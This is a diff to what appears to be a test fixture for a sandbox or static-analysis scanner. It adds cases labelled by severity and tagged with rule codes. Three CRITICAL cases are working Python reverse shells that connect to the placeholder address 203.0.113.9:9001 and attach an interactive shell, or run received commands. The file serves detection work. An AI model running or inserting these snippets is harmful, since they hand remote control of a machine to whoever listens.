@@ -186,3 +186,21 @@ fork("left")
 #### sys.exit: LOW
 import sys
 sys.exit(0)
+#### program whose streams are a connection: CRITICAL
+import os, socket, subprocess
+line = socket.socket()
+line.connect(("203.0.113.9", 9001))  #! SBX1201
+os.dup2(line.fileno(), 0)
+os.dup2(line.fileno(), 1)
+subprocess.call(["/bin/sh", "-i"])  #! SBX1107
+#### program that is handed a connection as stream: CRITICAL
+import socket, subprocess
+peer = socket.create_connection(("203.0.113.9", 9001))  #! SBX1201
+subprocess.Popen(["sh"], stdin=peer.fileno(), stdout=peer.fileno())  #! SBX1107
+#### shell command that came over the network: CRITICAL
+import os, socket
+peer = socket.create_connection(("203.0.113.9", 9001))  #! SBX1201
+os.system(peer.recv(1024).decode())  #! SBX1107
+#### stream copied to another, no network: LOW
+import os, sys
+os.dup2(sys.stdout.fileno(), sys.stderr.fileno())
